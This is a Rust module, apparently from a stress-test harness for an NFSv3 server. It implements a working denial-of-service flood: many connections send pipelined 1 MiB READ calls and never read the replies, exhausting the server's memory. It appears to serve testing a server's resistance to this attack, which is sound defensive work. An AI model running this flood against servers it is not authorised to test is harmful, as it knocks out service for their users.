//! Pipelined 1 MiB READs whose replies are never read: the server encodes replies that cannot leave, so
//! whatever it lets a connection queue is memory the attacker holds for free. One thread per connection
//! writes READ calls for as long as the server takes them, [`CALLS_PER_SEND`] to a send as a pipelining
//! client does: the kernel takes megabytes of calls per connection before the server's window closes,
//! and one send per 128-byte call made the attacker itself the machine's busiest process for seconds
//! (both cores of the 2-core development VM for 2.5 s), which the good client beside it then measured.

use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::Duration;

use nfs3_proto::{FileHandle3, Nfs3Proc, ReadArgs, Sattr3};

use super::{open, sleep_unless_stopped, write_all_unless_stopped, Tally, REOPEN_PAUSE};
use crate::rpc::{encode_call, xdr_bytes, Proc, RawClient, RpcFailure, Target};

/// Bytes per READ.
const READ_SIZE: u32 = 1 << 20;
/// The file read: sparse, so the server reads zeros and the attack costs it no backend memory.
const FILE_SIZE: u64 = 64 << 20;
const FILE_NAME: &str = "hostile-unread";
/// READ calls written with one send.
const CALLS_PER_SEND: usize = 32;

pub(super) fn run(target: &Target, connections: usize, stop: &AtomicBool, tally: &Tally) -> Result<(), RpcFailure> {
    let fh = prepare(target)?;
    std::thread::scope(|scope| {
        for conn in 0..connections {
            scope.spawn(move || flood(target, &fh, conn as u32, stop, tally));
        }
    });
    Ok(())
}

/// Mounts and makes the file to read (any existing one of that name is reused).
fn prepare(target: &Target) -> Result<FileHandle3, RpcFailure> {
    let mut client = RawClient::connect(target.addr)?;
    let root = client.mount(&target.export)?;
    let fh = client.create(&root, FILE_NAME, 0o644)?;
    client.setattr(&fh, Sattr3 { size: Some(FILE_SIZE), ..Sattr3::default() })?;
    Ok(fh)
}

fn flood(target: &Target, fh: &FileHandle3, conn: u32, stop: &AtomicBool, tally: &Tally) {
    let mut xid = conn << 24;
    while !stop.load(Relaxed) {
        let Some(mut stream) = open(target.addr, tally) else {
            sleep_unless_stopped(REOPEN_PAUSE, stop);
            continue;
        };
        // A bounded blocking write, so the stop flag is seen while the server is not reading.
        let _ = stream.set_write_timeout(Some(Duration::from_millis(100)));
        let mut offset = 0u64;
        let mut batch = Vec::new();
        loop {
            if stop.load(Relaxed) {
                return;
            }
            batch.clear();
            for _ in 0..CALLS_PER_SEND {
                xid = xid.wrapping_add(1);
                let args = xdr_bytes(&ReadArgs { file: *fh, offset, count: READ_SIZE });
                batch.extend_from_slice(&encode_call(xid, Proc::nfs3(Nfs3Proc::Read as u32), (0, 0), &args));
                offset = (offset + u64::from(READ_SIZE)) % FILE_SIZE;
            }
            match write_all_unless_stopped(&mut stream, &batch, stop) {
                Ok(true) => tally.sent(CALLS_PER_SEND as u64, batch.len() as u64),
                Ok(false) => return,
                Err(()) => {
                    tally.closed();
                    sleep_unless_stopped(REOPEN_PAUSE, stop);
                    break;
                }
            }
        }
    }
}
